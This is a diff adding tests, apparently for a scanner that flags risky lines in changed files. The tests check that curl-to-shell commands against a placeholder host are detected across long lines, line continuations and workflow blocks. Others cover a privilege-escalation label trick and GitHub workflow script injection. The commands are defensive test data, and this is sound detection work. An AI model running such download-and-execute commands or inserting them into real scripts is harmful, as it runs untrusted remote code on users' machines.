@@ -112,3 +112,38 @@ it('says nothing of lines that only moved, whatever they are', () => {
     }),
   );
 });
+
+describe('a command that pipes a download into a shell is found', () => {
+  const rules = (path: string, ...lines: readonly string[]): readonly string[] =>
+    [...scriptLines(changeOf(fileOf(path, lines)))].map(({ rule, line }) => `${rule} ${line}`);
+
+  it.each<[where: string, path: string, lines: readonly string[], line: number]>([
+    ['far down a line', 'Makefile', [`+\t${'echo a b c d; '.repeat(300)}curl https://h.test/a | sh`], 1],
+    ['across the end of a window', 'a.sh', [`+${'x'.repeat(980)}; curl https://h.test/a | sh`], 1],
+    ['far apart on a line', 'a.sh', [`+curl https://h.test/${'a'.repeat(3_000)} | sh`], 1],
+    ['over two lines', 'a.sh', ['+curl https://h.test/a \\', '+  | sh'], 1],
+    ['where its start was there before', 'a.sh', [' curl https://h.test/a \\', '+  | sh'], 2],
+    ['behind the pipe', 'a.sh', ['+curl https://h.test/a |', '+  sh'], 1],
+    ['in a block of a workflow', '.github/workflows/a.yml', [' run: |', '+  curl -s h.test \\', '+    | sh'], 2],
+  ])('%s', (_where, path, lines, line) => expect(rules(path, ...lines)).toEqual([`download-piped-to-shell ${line}`]));
+
+  it('once, though a line and its command both say it', () => {
+    expect(rules('a.sh', '+curl https://h.test/a | sh \\', '+  -s')).toEqual(['download-piped-to-shell 1']);
+  });
+
+  it('not where it was there before', () => {
+    expect(rules('a.sh', ' curl https://h.test/a \\', '   | sh', '+ls')).toEqual([]);
+  });
+});
+
+it('takes the start of a window for no start of a line', () => {
+  const lines = ['-USER app', `+LABEL a="${'x '.repeat(292)}${'  USER root '.repeat(200)}"`];
+  expect([...scriptLines(changeOf(fileOf('Dockerfile', lines)))]).toEqual([]);
+});
+
+it('joins an expression of a workflow that goes over lines', () => {
+  const lines = ['+      - run: echo \u0024{{', '+          github.event.issue.title }}'];
+  expect([...scriptLines(changeOf(fileOf('.github/workflows/a.yml', lines)))]).toMatchObject([
+    { rule: 'workflow-script-injection', line: 1 },
+  ]);
+});
